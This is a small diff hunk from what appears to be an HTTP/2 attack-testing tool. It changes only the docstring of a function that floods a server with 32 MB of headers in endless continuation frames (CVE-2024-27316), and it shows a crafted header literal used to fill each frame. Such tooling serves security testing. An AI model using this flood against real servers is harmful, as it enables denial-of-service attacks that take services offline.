@@ -135,7 +135,7 @@ async def huge_metadata(target: AttackTarget) -> Answers:
 
 
 async def endless_headers(target: AttackTarget) -> Answers:
-    """Send headers whose continuation frames never end, 32 MB of them (CVE-2024-27316)."""
+    """Send 32 MB of headers in endless continuation frames (CVE-2024-27316)."""
     field = b"\x40\x01a\x7f\xfb\x7e" + b"b" * 16_378  # a literal header that fills a frame
 
     async def flood(connection: RawConnection, path: str) -> None:
